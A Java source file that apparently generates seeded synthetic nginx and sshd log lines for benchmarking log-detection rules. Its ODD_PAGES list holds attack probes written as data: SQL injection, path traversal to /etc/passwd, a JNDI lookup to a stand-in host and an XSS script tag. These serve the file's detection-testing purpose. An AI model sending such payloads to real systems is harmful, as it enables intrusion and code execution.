package gac.bench;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** Log lines as servers write them, seeded. About one in a hundred is meant to catch a rule's eye. */
final class GeneratedLines {
    static final Instant START = Instant.parse("2026-11-22T00:00:00Z");
    private static final DateTimeFormatter NGINX_TIME =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter SYSLOG_TIME =
            DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final List<String> PAGES = List.of(
            "/",
            "/tin-tuc/chi-tiet-#.html",
            "/api/v1/ho-so/#?page=#&size=20",
            "/static/css/main.#.css",
            "/anh/2026/#/anh-#.jpg",
            "/tim-kiem?q=dich+vu+cong+#",
            "/van-ban/quyet-dinh-#",
            "/login",
            "/wp-content/uploads/2026/11/bieu-mau-#.pdf",
            "/favicon.ico",
            "/thu-tuc?id=#&linh-vuc=%C4%91%E1%BA%A5t+%C4%91ai&trang=#",
            "/index.php?option=com_content&view=article&id=#");
    private static final List<String> ODD_PAGES = List.of(
            "/index.php?id=1%27%20union%20select%20#,2,3--",
            "/../../etc/passwd",
            "/?x=${jndi:ldap://198.51.100.#/a}",
            "/wp-login.php?action=#",
            "/?q=<script>alert(#)</script>",
            "/.git/config");
    private static final List<String> AGENTS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)");
    private static final List<String> SSHD = List.of(
            "Failed password for root from 203.0.113.# port # ssh2",
            "Failed password for invalid user oracle# from 203.0.113.# port # ssh2",
            "Invalid user admin# from 203.0.113.# port #",
            "Accepted publickey for nv# from 192.0.2.# port # ssh2: RSA SHA256:6Kb0uvcXKT1IqXwC1TQGZ4lqWc1uxc0BQjC6sGwWvQk",
            "Disconnected from authenticating user root 203.0.113.# port # [preauth]",
            "pam_unix(sshd:session): session opened for user nv# by (uid=0)",
            "Received disconnect from 203.0.113.# port #:11: Bye Bye [preauth]",
            "Connection closed by 203.0.113.# port # [preauth]");

    private final Words words;
    private int number;

    GeneratedLines(Words words) {
        this.words = words;
    }

    /** Lines of an nginx access log, combined format. */
    static List<String> nginx(int count, long seed) {
        GeneratedLines lines = new GeneratedLines(new Words(seed));
        return Stream.generate(lines::nginx).limit(count).toList();
    }

    /** Lines of an auth.log by sshd, RFC 3164. */
    static List<String> sshd(int count, long seed) {
        GeneratedLines lines = new GeneratedLines(new Words(seed));
        return Stream.generate(lines::sshd).limit(count).toList();
    }

    static byte[][] bytes(List<String> lines) {
        return lines.stream().map(line -> line.getBytes(StandardCharsets.UTF_8)).toArray(byte[][]::new);
    }

    String nginx() {
        number++;
        String page = filled(words, words.oneIn(100) ? words.one(ODD_PAGES) : words.skewed(PAGES));
        String referrer = words.oneIn(2) ? "https://www.example.vn/" : "-";
        return "203.0.113." + words.below(256) + " - - [" + NGINX_TIME.format(now()) + "] \""
                + (words.oneIn(9) ? "POST " : "GET ") + page + " HTTP/1.1\" "
                + words.skewed(List.of(200, 304, 404, 302, 500)) + " "
                + words.below(90_000) + " \"" + referrer + "\" \"" + words.skewed(AGENTS) + "\"";
    }

    private String sshd() {
        number++;
        String message = words.one(SSHD);
        String address = message.replaceFirst("(203\\.0\\.113|192\\.0\\.2)\\.#", "$1." + words.below(256));
        return SYSLOG_TIME.format(now()) + " web" + words.below(20) + " sshd[" + words.below(30_000) + "]: "
                + filled(words, address);
    }

    private Instant now() {
        return START.plusMillis(37L * number);
    }

    /** The template with a number for each {@code #}. */
    static String filled(Words words, String template) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < template.length(); i++) {
            char c = template.charAt(i);
            if (c == '#') {
                text.append(words.below(10_000));
            } else {
                text.append(c);
            }
        }
        return text.toString();
    }
}
